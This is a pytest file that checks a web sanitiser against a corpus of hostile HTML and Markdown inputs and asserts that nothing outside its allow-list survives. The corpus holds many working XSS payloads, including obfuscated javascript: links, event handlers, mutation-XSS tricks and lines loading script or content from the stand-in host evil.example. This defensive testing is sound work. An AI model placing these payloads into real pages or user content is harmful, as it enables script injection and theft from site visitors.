"""SECURITY X1 and X4: a corpus of hostile inputs leaves nothing outside the sanitiser's allow-list.

Each payload goes through both ways content reaches a page: as Markdown source (`render_markdown`, what the
editor stores) and as HTML (`sanitise_html`, what the public page runs stored HTML through again). The output
is parsed and every element, attribute and link address is checked against core.sanitise's allow-list, the one
the issue names: h2-h4, p, br, strong, em, ul, ol, li, a (href and title; https, mailto and tel only; with
rel="noopener noreferrer"), blockquote, table, thead, tbody, tr, th, td, abbr, hr.

`problems_in` is shared with the property tests (test_sanitiser_properties.py).
"""

from __future__ import annotations

import re

import pytest
from bs4 import BeautifulSoup, Comment, Tag

from core.sanitise import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    ALLOWED_URL_SCHEMES,
    LINK_REL,
    render_markdown,
    sanitise_html,
)


@pytest.fixture(autouse=True)
def _database() -> None:
    """The sanitiser is pure functions: no database to fill before each test or empty after it (the shared
    fixture of that name does both, which for hundreds of cases costs minutes on PostgreSQL)."""
    return


# The allow-list exactly as issue 5 states it, so that a change to core.sanitise must change this test too.
ISSUE_TAGS = {
    "h2", "h3", "h4", "p", "br", "strong", "em", "ul", "ol", "li", "a",
    "blockquote", "table", "thead", "tbody", "tr", "th", "td", "abbr", "hr",
}  # fmt: skip
ISSUE_ATTRIBUTES = {"a": {"href", "title"}, "abbr": {"title"}}
ISSUE_SCHEMES = {"https", "mailto", "tel"}

# What a browser does to an href before it reads the scheme (WHATWG URL parsing): leading and trailing C0
# controls and spaces go, and so does every tab and newline anywhere; the scheme is case-insensitive.
_STRIPPED_ENDS = "".join(chr(code) for code in range(0x21))
_SCHEME = re.compile(r"([a-zA-Z][a-zA-Z0-9+.\-]*):")


def effective_scheme(href: str) -> str | None:
    """The scheme a browser would use for `href` (already entity-decoded), or None for a relative address."""
    cleaned = re.sub(r"[\t\n\r]", "", href.strip(_STRIPPED_ENDS))
    match = _SCHEME.match(cleaned)
    return match.group(1).lower() if match else None


def problems_in(html: str) -> list[str]:
    """Everything in `html` outside the allow-list: elements, attributes, link schemes, missing rel, comments."""
    soup = BeautifulSoup(html, "html.parser")
    problems = []
    for comment in soup.find_all(string=lambda node: isinstance(node, Comment)):
        problems.append(f"comment {comment!r}")
    for element in soup.find_all(True):
        assert isinstance(element, Tag)
        if element.name not in ALLOWED_TAGS:
            problems.append(f"element <{element.name}>")
        allowed = ALLOWED_ATTRIBUTES.get(element.name, set())
        for name, value in element.attrs.items():
            value = " ".join(value) if isinstance(value, list) else value
            if name == "rel" and element.name == "a":
                if value != LINK_REL:
                    problems.append(f"<a rel={value!r}>")
            elif name not in allowed:
                problems.append(f"attribute {name} on <{element.name}>")
        if element.name == "a":
            if element.get("rel") is None or " ".join(element["rel"]) != LINK_REL:
                problems.append(f"<a> without rel={LINK_REL!r}: {element}")
            href = element.get("href")
            if href is not None:
                scheme = effective_scheme(href)
                if scheme is not None and scheme not in ALLOWED_URL_SCHEMES:
                    problems.append(f"href scheme {scheme!r} in {href!r}")
    return problems


def test_the_allow_list_is_exactly_the_one_the_issue_names_x1():
    assert set(ALLOWED_TAGS) == ISSUE_TAGS
    assert {tag: set(names) for tag, names in ALLOWED_ATTRIBUTES.items()} == ISSUE_ATTRIBUTES
    assert set(ALLOWED_URL_SCHEMES) == ISSUE_SCHEMES
    assert LINK_REL == "noopener noreferrer"


@pytest.mark.parametrize(
    ("href", "scheme"),
    [
        ("https://example.org", "https"),
        ("  JaVa\tScRipt:alert(1)", "javascript"),
        ("\x01java\nscript:alert(1)", "javascript"),
        ("/how-to-request", None),
        ("jav%09ascript:alert(1)", None),  # percent-encoding is not undone for the scheme: a relative path
    ],
)
def test_the_checker_reads_schemes_as_a_browser_does(href, scheme):
    assert effective_scheme(href) == scheme


def test_the_checker_finds_what_it_is_meant_to_find():
    """The checker itself must be able to fail, or the corpus below proves nothing."""
    found = problems_in(
        '<script>x</script><p style="x" onclick="y">a</p><a href=" javascript:x">b</a><a href="https://x">c</a><!--c-->'
    )
    assert "element <script>" in found
    assert "attribute style on <p>" in found and "attribute onclick on <p>" in found
    assert "href scheme 'javascript' in ' javascript:x'" in found
    assert any(problem.startswith("<a> without rel") for problem in found)
    assert any(problem.startswith("comment") for problem in found)


SCRIPT_ALERT = "<script>window.__xss = 1</script>"

HOSTILE_HTML = [
    # Script, and event handlers on every kind of element
    "<script>window.__xss = 1</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<p onclick=alert(1) onmouseover='alert(2)'>click</p>",
    '<a href="https://example.org" onfocus="alert(1)" autofocus>x</a>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    # javascript:, data:, vbscript: links, obfuscated with entities, case, whitespace and control characters
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#9;ascript:alert(1)">x</a>',
    '<a href="jav&Tab;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,x">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VbScRiPt:msgbox(1)">x</a>',
    '<a href="http://example.org">plain http</a>',
    '<a href="file:///etc/passwd">file</a>',
    '<a href="https://example.org" target="_blank">new tab</a>',
    '<a href="https://example.org" rel="opener">opener</a>',
    '<a href="https://example.org" ping="https://evil.example">ping</a>',
    # Elements that must never appear
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example"><input name=x autofocus onfocus=alert(1)><button>Go</button></form>',
    '<input type="image" src=x onerror=alert(1)>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{background:url(https://evil.example/x)}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="behavior:url(x.htc)">x</div>',
    '<img src="https://evil.example/track.gif">',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    "<template><script>alert(1)</script></template>",
    "<portal src=https://evil.example></portal>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<td style="x" colspan="2">cell</td>',
    '<abbr title="x" onmouseover="alert(1)" id="a" class="b">abbr</abbr>',
    '<p title="tooltip" lang="en" dir="rtl">attributes allowed on every element by default, but not here</p>',
    # Mutation XSS: content that parses one way when cleaned and another when the browser reads the output
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<svg><style><img src=x onerror="alert(1)"></style></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><style><img src=x onerror="alert(1)"></style></math>',
    '<math><mi><style><img src=x onerror="alert(1)"></style></mi></math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<title><img src=x onerror="alert(1)"></title>',
    '<textarea><img src=x onerror="alert(1)"></textarea>',
    '<xmp><img src=x onerror="alert(1)"></xmp>',
    '<noembed><img src=x onerror="alert(1)"></noembed>',
    '<iframe><img src=x onerror="alert(1)"></iframe>',
    "<plaintext><img src=x onerror=alert(1)>",
    '<select><template><style></select><img src=x onerror="alert(1)"></style></template></select>',
    # Comments, nested and broken
    "<!-- <script>alert(1)</script> -->",
    "<!-- <!-- nested --> <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<? xml ?><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    # Broken markup
    "<a href='https://example.org' title='\"><script>alert(1)</script>'>x</a>",
    '<a href="https://example.org"title="x"onclick="alert(1)">x</a>',
    "<img/src=x/onerror=alert(1)>",
    "<p/onclick=alert(1)>x",
    "<<script>script>alert(1)<</script>/script>",
    "<a href=javascript&#58;alert(1)>x</a>",
    # Removing an element can change how the rest parses: a link nested in a link (through <marquee>, <object>
    # or <table>) must come out as a browser would read it, or cleaning the output again would change it.
    '<a href="https://example.org/1"><marquee><a href="https://example.org/2">inner</a></marquee></a>',
    "<a><marquee><a href=</marquee></a>",
    '<a href="https://example.org/1"><object><a href="https://example.org/2">inner</a></object></a>',
]

HOSTILE_MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,x>",
    "[x][evil]\n\n[evil]: javascript:alert(1)",
    '[x](https://example.org "title\\" onmouseover=\\"alert(1)")',
    "![img](https://evil.example/track.gif)",
    "![img](javascript:alert(1))",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "**<script>alert(1)</script>**",
    "| a | b |\n| --- | --- |\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "> <iframe src=https://evil.example></iframe>",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>indented code</script>",
    "`<img src=x onerror=alert(1)>`",
    "# Heading 1 is not on the list\n\n##### nor is heading 5",
    "- [ ] <input type=checkbox onclick=alert(1)>",
    "Text<br onclick=alert(1)>more",
    "[x](https://example.org)",
    "[mail](mailto:practice@example.org) and [call](tel:+442083335000)",
    "<https://example.org>",
]


def _both_ways(payloads: list[str]) -> list[tuple[str, str]]:
    return [("markdown", payload) for payload in payloads] + [("html", payload) for payload in payloads]


@pytest.mark.parametrize(("way", "payload"), _both_ways(HOSTILE_HTML + HOSTILE_MARKDOWN))
def test_hostile_input_leaves_nothing_outside_the_allow_list_x1(way, payload):
    output = render_markdown(payload) if way == "markdown" else sanitise_html(payload)
    assert problems_in(output) == [], f"{way}: {payload!r} -> {output!r}"
    assert sanitise_html(output) == output, "sanitising the output again changed it (X3)"


@pytest.mark.parametrize("payload", HOSTILE_HTML + HOSTILE_MARKDOWN)
def test_markdown_turns_raw_html_into_text_and_makes_no_element_the_allow_list_lacks_x1(payload):
    """Raw HTML in the Markdown source is shown as text: no tag from it survives as an element, allowed or not
    (the only elements come from Markdown syntax itself)."""
    soup = BeautifulSoup(render_markdown(payload), "html.parser")
    for element in soup.find_all(["script", "img", "iframe", "svg", "math", "style", "form", "input", "noscript"]):
        pytest.fail(f"{payload!r} made <{element.name}>")


def test_dangerous_content_is_dropped_whole_not_kept_as_text():
    """Script and style bodies vanish with their elements (nh3 clean_content_tags), so no script text is shown."""
    assert sanitise_html(f"<p>before</p>{SCRIPT_ALERT}<style>p{{color:red}}</style><p>after</p>") == (
        "<p>before</p><p>after</p>"
    )


def test_links_keep_only_their_address_and_title_and_always_carry_noopener_noreferrer_x4():
    html = sanitise_html('<a href="https://example.org" target="_blank" rel="opener" title="T" class="c">x</a>')
    assert html == '<a href="https://example.org" title="T" rel="noopener noreferrer">x</a>'


@pytest.mark.parametrize(
    "href", ["https://www.nhs.uk/", "mailto:practice@example.org", "tel:+442083335000", "/how-to-request"]
)
def test_allowed_addresses_survive(href):
    assert f'href="{href}"' in sanitise_html(f'<a href="{href}">x</a>')


def test_everything_on_the_allow_list_survives_unchanged():
    """The allow-list is not stricter than the issue asks: each allowed element and attribute comes through."""
    html = (
        "<h2>a</h2><h3>b</h3><h4>c</h4><p>d<br><strong>e</strong><em>f</em></p><ul><li>g</li></ul><ol><li>h</li>"
        "</ol><blockquote><p>i</p></blockquote><table><thead><tr><th>j</th></tr></thead><tbody><tr><td>k</td></tr>"
        '</tbody></table><p><abbr title="National Health Service">NHS</abbr></p><hr>'
        '<p><a href="https://example.org" title="l" rel="noopener noreferrer">m</a></p>'
    )
    assert sanitise_html(html) == html
